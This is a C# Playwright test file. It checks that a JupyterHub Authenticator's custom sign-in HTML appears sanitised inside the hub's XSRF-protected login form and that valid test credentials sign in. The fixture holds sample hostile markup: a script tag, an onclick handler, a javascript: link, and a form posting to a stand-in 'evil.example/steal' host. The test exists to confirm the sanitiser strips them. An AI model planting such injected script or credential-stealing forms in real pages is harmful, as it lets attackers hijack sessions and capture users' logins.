using Greyhub.Testing;
using Microsoft.Playwright;

namespace Greyhub.Host.Tests;

/// <summary>
/// A JupyterHub Authenticator with its own sign-in form (<c>custom_html</c>) and service name (<c>login_service</c>),
/// served by the bridge the hub starts: the hub's sign-in page shows the form's fields and text sanitised (no script,
/// event handler, <c>javascript:</c> link or foreign form survives) inside its own XSRF-protected form, its button says
/// "Sign in with" the service, and the fields it names <c>username</c> and <c>password</c> sign the user in.
/// </summary>
public sealed class BrowserCustomLoginFormTests
{
    private const string User = "lab-ada";
    private const string Password = "lab-pass-1";

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact]
    public async Task An_authenticators_own_form_is_shown_sanitised_in_the_hubs_form_and_signs_in()
    {
        Requires.PythonModules("apt-get install -y jupyterhub python3-tornado python3-traitlets", "jupyterhub.auth", "tornado", "traitlets");
        var dataDir = Directory.CreateTempSubdirectory("greyhub-custom-login-").FullName;
        var modules = Path.Combine(dataDir, "modules");
        Directory.CreateDirectory(modules);
        await File.WriteAllTextAsync(Path.Combine(modules, "lab_authenticator.py"), $$""""
            from jupyterhub.auth import Authenticator


            class LabAuthenticator(Authenticator):
                login_service = "Lab Directory"
                custom_html = """
                <p id="lab-intro">Use your <strong>Lab Directory</strong> ID and passphrase.</p>
                <div class="field"><label for="username_input">Lab ID</label><input id="username_input" name="username" type="text" required></div>
                <div class="field"><label for="password_input">Passphrase</label><input id="password_input" name="password" type="password" required></div>
                <script>document.title = "script ran";</script>
                <p id="lab-help" onclick="document.title = 'clicked'">Forgot it? <a id="lab-link" href="javascript:document.title = 'link'">Ask the lab</a>.</p>
                <form id="foreign" action="https://evil.example/steal" method="post"><input name="stolen"></form>
                """

                async def authenticate(self, handler, data):
                    if data.get("username") == "{{User}}" and data.get("password") == "{{Password}}":
                        return data["username"]
                    return None
            """", Ct);
        var config = Path.Combine(dataDir, "bridge_config.py");
        await File.WriteAllTextAsync(config, """
            c = get_config()
            c.Bridge.authenticator_class = "lab_authenticator.LabAuthenticator"
            """, Ct);
        const string At = "--Greyhub:Authenticator:Remote:lab:";
        string[] args =
        [
            "--Greyhub:Authenticator:Type=lab", "--Greyhub:Authenticator:AllowAll=true",
            At + "Command:0=" + DebianPython.Path, At + "Command:1=-m", At + "Command:2=greyhub_bridge", At + "Command:3=-f", At + "Command:4=" + config,
            At + "Environment:PYTHONPATH=" + Path.Combine(AppContext.BaseDirectory, "plugins") + ":" + modules,
            At + "LogFile=" + Path.Combine(dataDir, "bridge.log"),
        ];
        try
        {
            await using var hub = await GreyhubProcess.StartAsync(dataDir, args, cancellationToken: Ct);
            await using var browser = await Chromium.OpenPageAsync(newContext: b => PageChecks.NewContextAsync(b));
            var page = browser.Page;
            await page.GotoAsync(new Uri(hub.Address, "hub/login").ToString());

            // The Authenticator's text and fields, in the hub's own form with its XSRF token, and its service on the button.
            Assert.Contains("Use your Lab Directory ID and passphrase.", await page.InnerTextAsync("#login-custom #custom-lab-intro"));
            Assert.Equal("Lab ID", await page.InnerTextAsync("label[for=custom-username_input]"));
            Assert.Equal("Sign in with Lab Directory", (await page.InnerTextAsync("#login_submit")).Trim());
            Assert.Equal(1, await page.Locator("form:has(#login-custom):has(#login_submit) input[name=_xsrf]").CountAsync());
            // What could run, restyle or send the form elsewhere is gone; the harmless text stays.
            Assert.Equal(0, await page.Locator("#login-custom script").CountAsync());
            Assert.Equal(0, await page.Locator("[onclick]").CountAsync());
            Assert.Equal(0, await page.Locator("#foreign, input[name=stolen]").CountAsync());
            Assert.Contains("Forgot it?", await page.InnerTextAsync("#custom-lab-help"));
            // Links are dropped with their text on the sign-in page (no "sign in elsewhere" link can be planted there).
            Assert.Equal(0, await page.Locator("#login-custom a").CountAsync());
            Assert.NotEqual("script ran", await page.TitleAsync());
            await PageChecks.CheckAsync(page, "custom-login-form");

            // A wrong passphrase: the normal failed login, on the same form.
            Assert.Equal(403, await SubmitAsync(page, User, "not-it"));
            Assert.Contains("Invalid username or password", await page.InnerTextAsync("#login-error"));
            Assert.Equal(1, await page.Locator("#login-custom #custom-lab-intro").CountAsync());

            // The right one signs in through the Authenticator.
            await SubmitAsync(page, User, Password);
            await page.Locator("#home-user").WaitForAsync();
            Assert.Equal(User, await page.InnerTextAsync("#home-user"));
        }
        finally
        {
            if (Directory.Exists(dataDir))
            {
                Directory.Delete(dataDir, recursive: true);
            }
        }
    }

    private static async Task<int> SubmitAsync(IPage page, string user, string password)
    {
        await page.FillAsync("#custom-username_input", user);
        await page.FillAsync("#custom-password_input", password);
        var response = page.WaitForResponseAsync(r => r.Request.Method == "POST" && new Uri(r.Url).AbsolutePath == "/hub/login");
        await page.ClickAsync("#login_submit");
        return (await response).Status;
    }
}
